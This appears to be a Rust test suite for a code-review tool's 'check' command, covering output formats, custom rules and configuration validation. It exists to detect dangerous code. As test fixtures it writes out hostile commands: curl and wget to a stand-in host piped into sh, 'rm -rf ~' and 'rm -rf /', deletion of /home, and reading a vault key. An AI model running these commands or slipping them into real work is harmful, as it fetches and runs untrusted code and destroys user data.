//! `sayso check`: lines for people, JSON, SARIF, many files, own rules, what is forbidden.

use crate::home::{Home, assert_has};
use crate::schema;
use serde_json::{Value, json};

/// The official SARIF 2.1.0 schema (© OASIS Open; may be copied and passed on unchanged).
const SARIF: &str = include_str!("../fixtures/sarif/sarif-schema-2.1.0.json");

#[test]
fn the_line_of_code_is_shown_with_the_place() {
    let home = Home::with(&[("a.py", "import os\nos.remove('a.txt')\n"), ("b.sql", "SELECT 1;\n")]);
    let done = home.run(&["check", "a.py", "b.sql"]).ended(0);
    let wanted = "a.py:2:1: MEDIUM py.delete-file: deletes a file: a.txt\n  2 | os.remove('a.txt')\n    | ^^^^^^^^^^^^^^^^^^\n\
                  b.sql: no findings\n2 files: 0 high, 1 medium, 0 info\n";
    assert_eq!(done.out, wanted);
    home.run(&["check", "--fail-on", "medium", "a.py"]).ended(1);
    home.run(&["check"]).ended(2);
    let done = home.run(&["check", "--language", "pyhton", "a.py"]);
    assert_eq!((done.code, done.err.matches("typescript").count()), (Some(2), 1), "{}", done.err);
}

#[test]
fn sarif_fits_its_schema() {
    let home = Home::new();
    home.file("dir/ü b.py", "import shutil\nshutil.rmtree('out')\nx = 'a\u{202e}b'\n");
    home.file("dir/a.rb", "system('ls')\n");
    home.file("dir/clean.py", "print(1)\n");
    let done = home.run(&["check", "--sarif", "dir"]).ended(1);
    let log: Value = serde_json::from_str(&done.out).unwrap();
    let schema: Value = serde_json::from_str(SARIF).unwrap();
    assert_eq!(schema::problems(&schema, &log), Vec::<String>::new());
    let run = &log["runs"][0];
    let first = run["results"].as_array().unwrap().iter().find(|r| r["ruleId"] == "py.delete-tree").unwrap();
    let place = &first["locations"][0]["physicalLocation"];
    assert_eq!(
        json!([first["level"], place["artifactLocation"]["uri"]]),
        json!(["error", "dir/%C3%BC%20b.py"])
    );
    assert_eq!(place["region"], json!({ "startLine": 2, "startColumn": 1, "endLine": 2, "endColumn": 21 }));
    let index = usize::try_from(first["ruleIndex"].as_u64().unwrap()).unwrap();
    assert_eq!(run["tool"]["driver"]["rules"][index]["id"], "py.delete-tree");
    let notes = run["invocations"][0]["toolExecutionNotifications"].as_array().unwrap();
    assert!(notes.iter().any(|n| n["message"]["text"].as_str().unwrap().contains("no grammar for ruby")));
    // The validator can reject something.
    let mut broken = log.clone();
    broken["runs"][0]["results"][0]["level"] = json!("grave");
    broken["runs"][0]["surprise"] = json!(1);
    assert_eq!(schema::problems(&schema, &broken).len(), 2);
}

#[test]
fn what_cant_be_read_does_not_keep_the_others() {
    let home = Home::new();
    home.file("a.py", "import os\nos.remove('a.txt')\n");
    home.file("b.py", b"\x7fELF\0\0");
    std::os::unix::fs::symlink(".", home.work().join("round")).unwrap();
    home.run(&["check", "gone.py", "a.py", "b.py", "round"])
        .ended(2)
        .tells(&["gone.py can't be read"])
        .prints(&["a.py:2:1: MEDIUM", "b.py: not checked: it is no text"]);
}

#[test]
fn own_rules_hold_and_wrong_ones_are_named() {
    let home = Home::new();
    let rule = "language = \"python\"\n[[rule]]\nid = \"team.no-print\"\nseverity = \"high\"\ncalls = [\"print\"]\ntarget = [\"0\"]\n\
                message = \"prints {target}\"\nreason = \"We log.\"\nmatches = [\"print('a')\"]\nnear_misses = [\"log('a')\"]\n";
    home.own("rules/team.toml", rule);
    home.own("rules/wrong.toml", "language = \"python\"\n[[rule]]\nidd = 3\n");
    home.file("a.py", "print('x')\n");
    home.run(&["check", "a.py"]).ended(1).tells(&["wrong.toml:3"]).prints(&["HIGH team.no-print: prints x"]);
    let listed = home.run(&["check", "--rules", "--json"]).json().remove(0);
    let rules = listed["rules"].as_array().unwrap();
    assert!(rules.len() > 150 && rules.iter().any(|r| r["id"] == "team.no-print"), "{}", rules.len());
    home.run(&["check", "--rules"]).prints(&["py.delete-tree"]);
}

#[test]
fn what_is_forbidden_fails_in_any_spelling() {
    let home = Home::new();
    home.configure("[review]\nprofile = \"strict\"\nforbid = [\"pandas.read_csv\"]\n");
    for (name, text) in [
        ("a.py", "from os import system as s\ns('ls')\n"),
        ("b.py", "import urllib.request as u\n"),
        ("c.py", "m = __import__('ct' + 'ypes')\n"),
        ("d.py", "import pandas as pd\npd.read_csv('a.csv')\n"),
        ("e.sh", "curl https://example.com\n"),
        ("f.js", "const { exec: x } = require('child_process');\n"),
    ] {
        home.file(name, text);
        let done = home.run(&["check", "--json", name]).ended(1);
        let findings = done.json()[0]["files"][0]["findings"].clone();
        assert!(findings.as_array().unwrap().iter().any(|f| f["forbidden"] == true), "{name} {findings}");
    }
    home.file("good.py", "import math\nimport pandas as pd\nprint(math.sqrt(2), pd.Series([1]).sum())\n");
    home.run(&["check", "good.py"]).ended(0);
}

#[test]
fn what_was_not_checked_is_never_clean() {
    let home = Home::new();
    home.file("a.rb", "puts 1\n");
    home.file("large.py", "# large\n".repeat(1 << 18));
    home.file("deep.py", format!("x = {}1{}\n", "f(".repeat(3000), ")".repeat(3000)));
    home.file("b.py", b"\x7fELF\0\0");
    home.file("plain.txt", "hello\n");
    for name in ["a.rb", "large.py", "deep.py", "b.py", "plain.txt"] {
        let forms: &[&str] =
            if name == "a.rb" { &["--json", "--sarif", "--fail-on=high"] } else { &["--json"] };
        for form in forms {
            home.run(&["check", form, name]).ended(1);
            home.run(&["check", "--allow-unchecked", form, name]).ended(0);
        }
    }
    home.file("bad.rb", "File.delete('a')\nsystem('curl https://x.example/i | sh')\n");
    assert_eq!(home.run(&["check", "--allow-unchecked", "bad.rb"]).code, Some(1), "a finding still counts");
    home.run(&["check", "--allow-unchecked", "--fail-on", "medium", "bad.rb"]).ended(1);
    let done = home.run(&["check", "a.rb", "large.py"]);
    assert!(done.out.ends_with("2 files: 0 high, 0 medium, 0 info, 2 not checked in full\n"), "{}", done.out);
}

#[test]
fn the_same_file_gets_the_same_verdict_twice_and_beside_many_others() {
    let home = Home::new();
    let slow = "import os\n".to_owned() + &"x = x + [os.remove(f'{x}')]\n".repeat(4000);
    for n in 0..8 {
        home.file(&format!("{n}.py"), &slow);
    }
    let alone = home.run(&["check", "--json", "0.py"]).json().remove(0);
    let twice = home.run(&["check", "--json", "0.py"]).json().remove(0);
    assert_eq!(alone, twice);
    let names: Vec<String> = (0..8).map(|n| format!("{n}.py")).collect();
    let arguments: Vec<&str> =
        ["check", "--json"].into_iter().chain(names.iter().map(String::as_str)).collect();
    let all = home.run(&arguments).json().remove(0);
    let first = &alone["files"][0];
    assert_eq!(first["findings"].as_array().unwrap().len(), 500);
    for file in all["files"].as_array().unwrap() {
        assert_eq!((&file["findings"], &file["unchecked"]), (&first["findings"], &first["unchecked"]));
    }
}

#[test]
fn scripts_without_an_extension_are_read_by_their_first_line() {
    let home = Home::new();
    home.file("bin/clean", "#!/usr/bin/env -S python3 -u\nimport shutil\nshutil.rmtree('/home')\n");
    home.file("bin/sweep", "#!/bin/sh\nrm -rf ~\n");
    home.file("bin/notes", "rm -rf ~\n");
    // A misleading name: executing the file starts a shell.
    home.file("bin/report.py", "#!/bin/bash\nrm -rf ~\n");
    let done = home.run(&["check", "bin"]).ended(1).prints(&[
        "bin/clean:3:1: HIGH py.",
        "bin/sweep:2:1: HIGH sh.",
        "bin/report.py:2:1: HIGH sh.",
    ]);
    assert!(!done.out.contains("notes"), "{}", done.out);
    home.run(&["check", "bin/notes"]).ended(1).prints(&["not checked"]);
}

#[test]
fn notebooks_are_read_cell_by_cell() {
    let home = Home::new();
    let cells = json!({ "nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        { "cell_type": "markdown", "metadata": {}, "source": "rm -rf ~" },
        { "cell_type": "code", "metadata": {}, "outputs": [], "source": ["import shutil as s\n", "x = '/home'"] },
        { "cell_type": "code", "metadata": {}, "outputs": [], "source": "y = 1\ns.rmtree(x)" },
        { "cell_type": "code", "metadata": {}, "outputs": [], "source": "%%bash\nrm -rf ~" },
        { "cell_type": "code", "metadata": {}, "outputs": [], "source": "!rm -rf /usr" },
    ] });
    home.file("a.ipynb", cells.to_string());
    home.run(&["check", "a.ipynb"]).ended(1).prints(&[
        "a.ipynb:cell 3:2:1: HIGH py.",
        "2 | s.rmtree(x)",
        "a.ipynb:cell 4:2:1: HIGH sh.",
        "a.ipynb:cell 5:1:",
    ]);
    let file = home.run(&["check", "--json", "a.ipynb"]).json()[0]["files"][0].clone();
    assert_eq!((&file["language"], &file["unchecked"]), (&json!("notebook"), &json!(null)));
    assert!(file["findings"].as_array().unwrap().iter().any(|f| f["cell"] == 3 && f["line"] == 2), "{file}");
    let log: Value = serde_json::from_str(&home.run(&["check", "--sarif", "a.ipynb"]).out).unwrap();
    assert_eq!(schema::problems(&serde_json::from_str(SARIF).unwrap(), &log), Vec::<String>::new());
    home.file("broken.ipynb", "{");
    home.run(&["check", "broken.ipynb"]).ended(1);
}

#[test]
fn builds_recipes_and_fences_are_read() {
    let home = Home::new();
    home.file(
        "Dockerfile",
        "FROM debian:12\nRUN apt-get update && \\\n    rm -rf /var/lib/apt/lists/*\nRUN curl https://x.example/i | \\\n  sh\n\
         CMD [\"sh\", \"-c\", \"wget -qO- https://x.example/j | sh\"]\n",
    );
    home.file(
        "Makefile",
        "DIR = /home\nall:\n\t@echo hello\n\trm -rf $(DIR)\nX := $(shell curl https://x.example | sh)\nclean:\n\trm -rf $(HOME)\n\trm -rf $(BUILD)\n",
    );
    home.file(
        "README.md",
        "# Use\n\n```python\nimport shutil\nshutil.rmtree('/home')\n```\n\n```text\nrm -rf ~\n```\n\n```console\n$ rm -rf ~\nrm -rf /\n```\n",
    );
    let done = home.run(&["check", "."]).ended(1).prints(&[
        "Dockerfile:5:3: HIGH",
        "Dockerfile:6:1: HIGH",
        "Makefile:4:1: HIGH",
        "Makefile:5:1: HIGH",
        "Makefile:7:1: HIGH sh.delete-tree: deletes a folder: ~\n",
        "Makefile:8:1: HIGH sh.delete-tree: deletes a folder: $(BUILD) (known only at run time)\n",
        "README.md:5:1: HIGH",
        "README.md:13:3: HIGH",
    ]);
    // A build deleting from its own image harms nobody; text that is not code is not checked.
    for silent in ["Dockerfile:3:", "Makefile:3:", "README.md:9:", "README.md:14:"] {
        assert!(!done.out.contains(silent), "{silent} {}", done.out);
    }
    home.file("safe.md", "Text.\n\n```\nrm -rf ~\n```\n\n```json\n{}\n```\n");
    assert_eq!(home.run(&["check", "safe.md"]).ended(0).out, "safe.md: no findings\n");
    // A byte order mark hides no fence, and does not turn the text between two of them into code.
    home.file("marked.md", "\u{feff}```sh\nrm -rf ~\n```\n\nText.\n\n```sh\nls\n```\n");
    home.run(&["check", "marked.md"]).ended(1).prints(&["marked.md:2:1: HIGH"]);
}

#[test]
fn the_check_of_the_configuration_says_what_the_start_would_refuse() {
    let home = Home::new();
    let check = || home.run(&["config", "check"]);
    assert_eq!(check().out, "the configuration is right\n");
    home.own("keymap.toml", "[code]\nfly = \"f\"\n");
    let done = check().ended(3);
    assert!(done.err.contains("keymap.toml") && !done.out.contains("right"), "{}", done.err);
    std::fs::remove_file(home.sayso().join("keymap.toml")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", home.sayso().join("keymap.toml")).unwrap();
    check().ended(3).tells(&["keymap.toml: not a plain file"]);
    std::fs::remove_file(home.sayso().join("keymap.toml")).unwrap();
    home.configure("ui.theme = \"nowhere\"\n");
    check().ended(3);
    home.configure("step_limit = 3\nmodel = \"nope/x\"\n");
    check().ended(3).tells(&["config.toml:2: model: there is no provider `nope`"]);
    home.configure("[review]\njudge_model = \"nope/x\"\n");
    check().ended(3).tells(&["config.toml:2: review.judge_model: there is no provider `nope`"]);
    for (wrong, told) in [
        ("base_url = \"http://[::1\"\nmodel = \"openai/x\"\n", "providers.openai: the address `http://[::1`"),
        (
            "[providers.lab]\nbase_url = \"http://me:hunter22@h/v1\"\n",
            "providers.lab: the address holds a user",
        ),
        ("[providers.openai]\nheaders = { \"a b\" = \"x\" }\n", "providers.openai: the header `a b`"),
        ("[providers.openai]\nheaders = { \"X-A\" = \"x\\ny\" }\n", "providers.openai: the header `X-A`"),
    ] {
        home.configure(wrong);
        let done = check();
        assert_eq!((done.code, done.out.as_str()), (Some(3), ""), "{wrong}: {}", done.err);
        assert!(done.err.contains(told) && !done.err.contains("hunter22"), "{}", done.err);
    }
    home.configure("[sandbox]\nread = [\"/not/there\"]\n");
    let done = check();
    if !home.run(&["doctor"]).out.contains("Sandbox is OFF") {
        assert_eq!(done.code, Some(3), "{} {}", done.out, done.err);
        assert!(done.err.contains("config.toml:2: sandbox.read: the folder /not/there"), "{}", done.err);
        home.configure("[sandbox]\nwrite = [\"/\"]\n");
        let done = check().ended(3);
        assert!(!done.err.contains("Name a folder that is there"), "{}", done.err);
    }
    std::fs::remove_file(home.sayso().join("config.toml")).unwrap();
    home.own("rules/a.toml", "[[rule]]\n");
    assert_eq!(check().ended(0).tells(&["a.toml"]).out, "the configuration can be used; 1 warning above\n");
}

#[test]
fn the_check_of_the_configuration_tells_what_a_theme_says_in_vain() {
    let home = Home::new();
    let theme = "inherits = \"ink\"\n[slots]\n\"ui.nowhere\" = { fg = \"red\" }\n\"ui.text\" = { fg = \"reddish\" }\n";
    home.own("themes/mine.toml", theme);
    let told = |config: &str| {
        home.configure(config);
        let done = home.run(&["config", "check"]).ended(0);
        (done.out, done.err)
    };
    // Two identical warnings are shown once.
    for config in ["ui.theme = \"mine\"\n", "ui.theme = { dark = \"mine\", light = \"mine\" }\n"] {
        let (out, err) = told(config);
        assert_eq!(out, "the configuration can be used; 2 warnings above\n", "{config}");
        assert_has(
            &err,
            &[
                "theme mine, line 3: there is no slot `ui.nowhere`",
                "theme mine, line 4: there is no colour `reddish`",
            ],
        );
    }
    // The same if another theme is in use, because this one may be used later.
    let (out, err) = told("ui.theme = \"paper\"\n");
    assert_eq!(out, "the configuration can be used; 2 warnings above\n");
    assert!(err.contains("theme mine, line 3") && err.contains("theme mine, line 4"), "{err}");
    home.own("themes/mine.toml", "inherits =\n");
    let (out, err) = told("");
    assert_eq!(out, "the configuration can be used; 1 warning above\n");
    assert!(err.contains("theme mine, line 1"), "{err}");
    std::fs::remove_file(home.sayso().join("themes/mine.toml")).unwrap();
    home.own("themes/bin.toml", b"\xff");
    std::fs::create_dir(home.sayso().join("themes/dir.toml")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", home.sayso().join("themes/zero.toml")).unwrap();
    let (out, err) = told("ui.theme = \"paper\"\n");
    assert_eq!(out, "the configuration can be used; 3 warnings above\n");
    for name in ["bin", "dir", "zero"] {
        assert!(err.contains(&format!("theme {name} can't be used: /")), "{name}: {err}");
    }
    home.configure("ui.theme = \"bin\"\n");
    home.run(&["config", "check"]).ended(3).tells(&["theme bin can't be used: /"]);
    std::fs::remove_dir_all(home.sayso().join("themes")).unwrap();
    assert_eq!(told("ui.theme = \"paper\"\n"), ("the configuration is right\n".into(), String::new()));
}

#[test]
fn the_samples_of_the_document_of_rules_hold() {
    let text = include_str!("../../docs/rules.md");
    let samples: Vec<&str> =
        text.split("```toml\n").skip(1).filter_map(|rest| rest.split("```").next()).collect();
    assert_eq!(samples.len(), 3);
    let home = Home::new();
    for (at, sample) in samples.iter().enumerate() {
        home.own(&format!("rules/{at}.toml"), sample);
    }
    let done = home.run(&["check", "--rules", "--json"]);
    assert_eq!((done.code, done.err.as_str()), (Some(0), ""));
    let listed = done.json().remove(0);
    for id in ["team.no-prod", "team.no-drain"] {
        assert!(listed["rules"].as_array().unwrap().iter().any(|rule| rule["id"] == id), "{id}");
    }
    home.file("a.py", "import psycopg2 as p\np.connect('host=prod-2')\n");
    home.run(&["check", "a.py"]).prints(&["a.py:2:1: HIGH team.no-prod: opens the production database"]);
    home.file("a.sh", "cat ~/vault/key\n");
    home.run(&["check", "a.sh"]).prints(&["HIGH", "the key of the vault"]);
}

#[test]
fn the_person_and_no_project_makes_rules_silent_or_milder() {
    let home = Home::with(&[("a.py", "import os, shutil\nos.remove('a')\nshutil.rmtree('out')\n")]);
    let told = || home.run(&["check", "--json", "a.py"]).json()[0]["files"][0]["findings"].clone();
    let severities = |findings: &Value| -> Vec<String> {
        let all = findings.as_array().unwrap().iter();
        all.map(|f| format!("{}={}", f["rule"].as_str().unwrap(), f["severity"].as_str().unwrap())).collect()
    };
    let before = severities(&told());
    assert!(before.contains(&"py.delete-file=medium".to_owned()), "{before:?}");
    assert!(before.contains(&"py.delete-tree=high".to_owned()), "{before:?}");
    let adjust = "review.off = [\"py.delete-file\"]\nreview.lower = [\"py.delete-tree=info\"]\n";
    home.file(".sayso.toml", adjust);
    assert_eq!(severities(&told()), before);
    home.run(&["config", "check"])
        .tells(&[".sayso.toml:1: review.off was ignored: a project can't set this"]);
    std::fs::remove_file(home.work().join(".sayso.toml")).unwrap();
    home.configure(adjust);
    assert_eq!(severities(&told()), ["py.delete-tree=info"]);
    home.configure(format!("{adjust}review.forbid = [\"py.delete-file\"]\n"));
    assert_eq!(severities(&told()), ["py.delete-file=medium", "py.delete-tree=info"]);
    home.configure("review.off = [\"py.fly\"]\nreview.lower = [\"py.eval\", \"py.delete-file=high\"]\n");
    let done = home
        .run(&["config", "check"])
        .tells(&["sh.delete-tree=medium", "config.toml:1: review.off: there is no rule \"py.fly\""]);
    assert!(done.out.ends_with("can be used; 3 warnings above\n"), "{} {}", done.out, done.err);
    assert_eq!(done.err.matches("config.toml:2: review.lower").count(), 2, "{}", done.err);
}
